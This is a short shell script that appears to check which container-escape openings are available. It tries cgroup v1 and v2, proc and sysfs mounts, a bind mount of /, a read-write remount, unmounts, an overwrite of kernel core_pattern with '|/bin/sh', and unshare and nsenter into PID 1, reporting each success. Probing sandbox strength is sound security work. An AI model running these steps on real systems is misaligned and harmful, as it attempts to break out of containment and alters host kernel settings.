# The classic cgroup v1 escape, and its neighbours.
mkdir -p cg && for kind in rdma memory cpu pids; do
  mount -t cgroup -o "$kind" cgroup cg 2>/dev/null && echo "ACHIEVED mounting cgroup $kind"
done
mount -t cgroup2 none cg 2>/dev/null && echo "ACHIEVED mounting cgroup2"
mount -t proc proc cg 2>/dev/null && echo "ACHIEVED mounting proc"
mount -t sysfs sysfs cg 2>/dev/null && echo "ACHIEVED mounting sysfs"
mount --bind / cg 2>/dev/null && echo "ACHIEVED a bind mount"
mount -o remount,rw / 2>/dev/null && echo "ACHIEVED remounting"
umount /proc 2>/dev/null && echo "ACHIEVED umount"
umount -l /usr 2>/dev/null && echo "ACHIEVED umount -l"
(echo "|/bin/sh" >/proc/sys/kernel/core_pattern) 2>/dev/null && echo "ACHIEVED core_pattern"
unshare -Urm true 2>/dev/null && echo "ACHIEVED unshare"
nsenter -t 1 -a true 2>/dev/null && echo "ACHIEVED nsenter"
echo DONE
